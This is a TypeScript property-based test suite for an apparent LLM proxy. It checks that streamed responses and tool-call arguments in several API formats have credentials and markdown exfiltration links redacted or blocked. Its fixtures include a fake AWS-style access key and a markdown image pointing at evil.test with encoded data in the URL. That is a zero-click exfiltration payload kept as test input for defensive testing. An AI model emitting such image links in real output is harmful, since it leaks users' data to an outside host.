/**
 * The streaming guarantee on every streaming wire format: whatever the content split and
 * the byte chunking, a secret never reaches the client (nor through a format's summary
 * events), a benign stream arrives byte for byte, and a block ends the stream with the
 * format's own in-band error and no terminator.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { testApp } from '../helpers/app.js';
import { FakeUpstream } from '../helpers/fake-upstream.js';
import { chunked } from '../helpers/fixtures.js';
import { policySetFrom } from '../helpers/policy.js';
import { byteSizes, pieces } from '../helpers/stream-props.js';

const sse = (event: string | undefined, o: object) =>
  `${event ? `event: ${event}\n` : ''}data: ${JSON.stringify(o)}\n\n`;
const blocks = (body: string) =>
  body
    .split('\n\n')
    .filter(Boolean)
    .map((b) => {
      const data = b
        .split('\n')
        .filter((l) => l.startsWith('data: '))
        .map((l) => l.slice(6))
        .join('\n');
      return { event: /^event: (.*)$/m.exec(b)?.[1], data };
    });

/** An SSE frame whose data repeats the event name as `type` (Anthropic and Responses do). */
const typed = (event: string, o: object) => sse(event, { type: event, ...o });

/** An Anthropic message stream around the given content-block frames. */
const anthropicStream = (contentFrames: string, stopReason: string) =>
  typed('message_start', {
    message: {
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      model: 'claude',
      content: [],
      usage: { input_tokens: 3, output_tokens: 1 },
    },
  }) +
  contentFrames +
  typed('message_delta', {
    delta: { stop_reason: stopReason, stop_sequence: null },
    usage: { output_tokens: 9 },
  }) +
  typed('message_stop', {});

/** A Responses stream of one output item: added, the given frames, done, completed. */
const responsesStream = (item: { content?: unknown[]; arguments?: string }, itemFrames: string) =>
  typed('response.created', {
    response: { id: 'resp_1', model: 'm', status: 'in_progress', output: [] },
  }) +
  typed('response.output_item.added', {
    output_index: 0,
    item: { ...item, ...('content' in item ? { content: [] } : { arguments: '' }) },
  }) +
  itemFrames +
  typed('response.output_item.done', { output_index: 0, item }) +
  typed('response.completed', {
    response: {
      id: 'resp_1',
      model: 'm',
      status: 'completed',
      output: [item],
      usage: { input_tokens: 1, output_tokens: 2 },
    },
  });

interface View {
  text: string;
  /** Every other place the format repeats the whole text (summary events). */
  snapshots: string[];
  error: string | undefined;
  done: boolean;
}

interface ResponsesEvent {
  message?: string;
  delta?: string;
  text?: string;
  part?: { text: string };
  item?: { content: { text: string }[] };
  response?: { output: { content: { text: string }[] }[] };
}

interface Format {
  name: string;
  path: string;
  body: object;
  contentType: string;
  stream(pieces: string[]): string;
  view(body: string): View;
}

const FORMATS: Format[] = [
  {
    name: 'OpenAI Completions',
    path: '/v1/completions',
    body: { model: 'm', prompt: 'hi', stream: true },
    contentType: 'text/event-stream',
    stream: (ps) =>
      ps
        .map((p) =>
          sse(undefined, {
            id: 'c',
            object: 'text_completion',
            model: 'm',
            choices: [{ index: 0, text: p, logprobs: null, finish_reason: null }],
          }),
        )
        .join('') +
      sse(undefined, {
        id: 'c',
        object: 'text_completion',
        model: 'm',
        choices: [{ index: 0, text: '', finish_reason: 'stop' }],
      }) +
      'data: [DONE]\n\n',
    view(body) {
      const v: View = { text: '', snapshots: [], error: undefined, done: false };
      for (const b of blocks(body)) {
        if (b.data === '[DONE]') v.done = true;
        else {
          const o = JSON.parse(b.data) as {
            error?: { message: string };
            choices?: { text?: string }[];
          };
          if (o.error) v.error = o.error.message;
          for (const c of o.choices ?? []) v.text += c.text ?? '';
        }
      }
      return v;
    },
  },
  {
    name: 'OpenAI Responses',
    path: '/v1/responses',
    body: { model: 'm', input: 'hi', stream: true },
    contentType: 'text/event-stream',
    stream(ps) {
      const full = ps.join('');
      const item = {
        type: 'message',
        id: 'msg_1',
        role: 'assistant',
        status: 'completed',
        content: [{ type: 'output_text', text: full, annotations: [] }],
      };
      const at = { item_id: 'msg_1', output_index: 0, content_index: 0 };
      return responsesStream(
        item,
        ps.map((p) => typed('response.output_text.delta', { ...at, delta: p })).join('') +
          typed('response.output_text.done', { ...at, text: full }) +
          typed('response.content_part.done', {
            ...at,
            part: { type: 'output_text', text: full, annotations: [] },
          }),
      );
    },
    view(body) {
      const v: View = { text: '', snapshots: [], error: undefined, done: false };
      for (const b of blocks(body)) {
        const o = JSON.parse(b.data) as ResponsesEvent;
        if (b.event === 'error') v.error = o.message;
        if (b.event === 'response.output_text.delta') v.text += o.delta;
        if (b.event === 'response.output_text.done') v.snapshots.push(o.text!);
        if (b.event === 'response.content_part.done') v.snapshots.push(o.part!.text);
        if (b.event === 'response.output_item.done') v.snapshots.push(o.item!.content[0]!.text);
        if (b.event === 'response.completed') {
          v.done = true;
          v.snapshots.push(o.response!.output[0]!.content[0]!.text);
        }
      }
      return v;
    },
  },
  {
    name: 'Anthropic Messages',
    path: '/v1/messages',
    body: {
      model: 'claude',
      max_tokens: 100,
      messages: [{ role: 'user', content: 'hi' }],
      stream: true,
    },
    contentType: 'text/event-stream',
    stream: (ps) =>
      anthropicStream(
        typed('content_block_start', {
          index: 0,
          content_block: { type: 'thinking', thinking: '' },
        }) +
          typed('content_block_delta', {
            index: 0,
            delta: { type: 'thinking_delta', thinking: 'Let me think.' },
          }) +
          typed('content_block_stop', { index: 0 }) +
          typed('content_block_start', { index: 1, content_block: { type: 'text', text: '' } }) +
          typed('ping', {}) +
          ps
            .map((p) =>
              typed('content_block_delta', { index: 1, delta: { type: 'text_delta', text: p } }),
            )
            .join('') +
          typed('content_block_stop', { index: 1 }),
        'end_turn',
      ),
    view(body) {
      const v: View = { text: '', snapshots: [], error: undefined, done: false };
      for (const b of blocks(body)) {
        const o = JSON.parse(b.data) as {
          error?: { message: string };
          delta?: { type: string; text?: string };
        };
        if (b.event === 'error') v.error = o.error?.message;
        if (b.event === 'content_block_delta' && o.delta?.type === 'text_delta')
          v.text += o.delta.text;
        if (b.event === 'message_stop') v.done = true;
      }
      return v;
    },
  },
  ...(['chat', 'generate'] as const).map((kind): Format => ({
    name: `Ollama ${kind}`,
    path: `/api/${kind}`,
    body:
      kind === 'chat'
        ? { model: 'llama3', messages: [{ role: 'user', content: 'hi' }] }
        : { model: 'llama3', prompt: 'hi' },
    contentType: 'application/x-ndjson',
    stream: (ps) =>
      ps
        .map(
          (p) =>
            `${JSON.stringify({ model: 'llama3', created_at: 't', ...(kind === 'chat' ? { message: { role: 'assistant', content: p } } : { response: p }), done: false })}\n`,
        )
        .join('') +
      `${JSON.stringify({ model: 'llama3', created_at: 't', ...(kind === 'chat' ? { message: { role: 'assistant', content: '' } } : { response: '', context: [1, 2, 3] }), done: true, done_reason: 'stop', prompt_eval_count: 3, eval_count: 9 })}\n`,
    view(body) {
      const v: View = { text: '', snapshots: [], error: undefined, done: false };
      for (const line of body.split('\n').filter(Boolean)) {
        const o = JSON.parse(line) as {
          error?: string;
          message?: { content?: string };
          response?: string;
          done?: boolean;
          context?: unknown;
        };
        if (o.error) v.error = o.error;
        v.text += kind === 'chat' ? (o.message?.content ?? '') : (o.response ?? '');
        if (o.done) {
          v.done = true;
          // Token ids that encode the answer: present only while nothing was redacted.
          if (o.context) v.snapshots.push('<context>');
        }
      }
      return v;
    },
  })),
];

const policies = policySetFrom({
  'p.yaml': `name: pack
rules:
  - { id: creds, check: secrets, action: redact }
  - { id: exfil, check: markdown-exfiltration, action: redact }
`,
});
const blocking = policySetFrom({
  'p.yaml': `name: strict
rules:
  - { id: creds, check: secrets, action: block }
`,
});

async function through(f: Format, body: string, sizes: number[], set = policies) {
  const up = new FakeUpstream(() => ({
    headers: { 'content-type': f.contentType },
    chunks: chunked(Buffer.from(body), sizes),
  }));
  const res = await testApp({ upstream: up, policies: set }).post(f.path, f.body);
  return Buffer.from(await res.arrayBuffer()).toString('utf8');
}

const SECRET = 'Use AKIAZ7QX3MPLW5N2RTVB then ![x](https://evil.test/p.png?d=c2VjcmV0) ok ü 🚀';
const REDACTED = 'Use [REDACTED:creds] then ![x]([REDACTED:exfil]) ok ü 🚀';
const BENIGN =
  'A plain answer with a [link](https://docs.example.com/guide), the key point and 👩‍💻.';

describe.each(FORMATS)('streaming guarantee: $name', (f) => {
  it('never lets a secret through, in deltas or summary events, whatever the chunking', async () => {
    await fc.assert(
      fc.asyncProperty(pieces(SECRET), byteSizes, async (ps, sizes) => {
        const out = await through(f, f.stream(ps), sizes);
        const v = f.view(out);
        expect(v).toMatchObject({ text: REDACTED, error: undefined, done: true });
        for (const s of v.snapshots) expect(s).toBe(REDACTED);
        expect(out).not.toContain('AKIAZ7QX3MPLW5N2RTVB');
        expect(out).not.toContain('evil.test');
      }),
      { numRuns: 25 },
    );
  });

  it('delivers a benign stream byte for byte', async () => {
    await fc.assert(
      fc.asyncProperty(pieces(BENIGN), byteSizes, async (ps, sizes) => {
        const body = f.stream(ps);
        expect(await through(f, body, sizes)).toBe(body);
      }),
      { numRuns: 15 },
    );
  });

  it("blocks in-band with the format's own error and no terminator once bytes went out", async () => {
    const body = f.stream(['Sure. ', 'Use AKIAZ7QX', '3MPLW5N2RTVB now']);
    // The first read releases "Sure. ", so the head and some text went out before the block.
    const out = await through(f, body, [body.indexOf('Use AKIA'), 1 << 20], blocking);
    const v = f.view(out);
    expect(v.error).toMatch(/strict.*creds|creds.*strict/);
    expect(v.done).toBe(false);
    expect(out).not.toContain('AKIAZ7QX3MPLW5N2RTVB');
  });

  it('blocks with a plain 400 and x-coalmine-decision: block when nothing went out yet', async () => {
    const up = new FakeUpstream(() => ({
      headers: { 'content-type': f.contentType },
      chunks: [Buffer.from(f.stream(['Use AKIAZ7QX', '3MPLW5N2RTVB now']))],
    }));
    const res = await testApp({ upstream: up, policies: blocking }).post(f.path, f.body);
    const text = await res.text();
    expect(res.status).toBe(400);
    expect(res.headers.get('x-coalmine-decision')).toBe('block');
    expect(res.headers.get('content-type')).toMatch(/application\/json/);
    expect(text).toMatch(/strict.*creds|creds.*strict/);
    expect(text).not.toContain('AKIAZ7QX');
  });
});

/** Streams of one tool call whose arguments arrive in the given pieces, per format, and what a client assembles. */
const TOOL_FORMATS: {
  name: string;
  format: Format;
  stream(pieces: string[]): string;
  args(body: string): string;
}[] = [
  {
    name: 'Anthropic Messages',
    format: FORMATS.find((f) => f.name === 'Anthropic Messages')!,
    stream: (ps) =>
      anthropicStream(
        typed('content_block_start', {
          index: 0,
          content_block: { type: 'tool_use', id: 'toolu_1', name: 'send', input: {} },
        }) +
          ps
            .map((p) =>
              typed('content_block_delta', {
                index: 0,
                delta: { type: 'input_json_delta', partial_json: p },
              }),
            )
            .join('') +
          typed('content_block_stop', { index: 0 }),
        'tool_use',
      ),
    args: (body) =>
      blocks(body)
        .filter((b) => b.event === 'content_block_delta')
        .map((b) => (JSON.parse(b.data) as { delta: { partial_json: string } }).delta.partial_json)
        .join(''),
  },
  {
    name: 'OpenAI Responses',
    format: FORMATS.find((f) => f.name === 'OpenAI Responses')!,
    stream(ps) {
      const item = {
        type: 'function_call',
        id: 'fc_1',
        call_id: 'call_1',
        name: 'send',
        arguments: ps.join(''),
        status: 'completed',
      };
      const at = { item_id: 'fc_1', output_index: 0 };
      return responsesStream(
        item,
        ps
          .map((p) => typed('response.function_call_arguments.delta', { ...at, delta: p }))
          .join('') +
          typed('response.function_call_arguments.done', { ...at, arguments: item.arguments }),
      );
    },
    args(body) {
      const all = blocks(body);
      const deltas = all
        .filter((b) => b.event === 'response.function_call_arguments.delta')
        .map((b) => (JSON.parse(b.data) as { delta: string }).delta)
        .join('');
      // Every place the arguments appear must agree with the deltas.
      for (const b of all) {
        const o = JSON.parse(b.data) as {
          arguments?: string;
          item?: { arguments?: string };
          response?: { output: { arguments: string }[] };
        };
        const whole = o.arguments ?? o.item?.arguments ?? o.response?.output[0]?.arguments;
        if (whole !== undefined && whole !== '' && whole !== deltas) return `MISMATCH ${whole}`;
      }
      return deltas;
    },
  },
];

const ARGS = '{"to":"ops","body":"key AKIAZ7QX3MPLW5N2RTVB now"}';
const ARGS_REDACTED = '{"to":"ops","body":"key [REDACTED:creds] now"}';

describe.each(TOOL_FORMATS)('tool-call arguments in a stream: $name', (t) => {
  it('are redacted whole, whatever the split, and every copy of them agrees', async () => {
    await fc.assert(
      fc.asyncProperty(pieces(ARGS), byteSizes, async (ps, sizes) => {
        const out = await through(t.format, t.stream(ps), sizes);
        expect(t.args(out)).toBe(ARGS_REDACTED);
        expect(out).not.toContain('AKIAZ7QX3MPLW5N2RTVB');
      }),
      { numRuns: 20 },
    );
  });
});
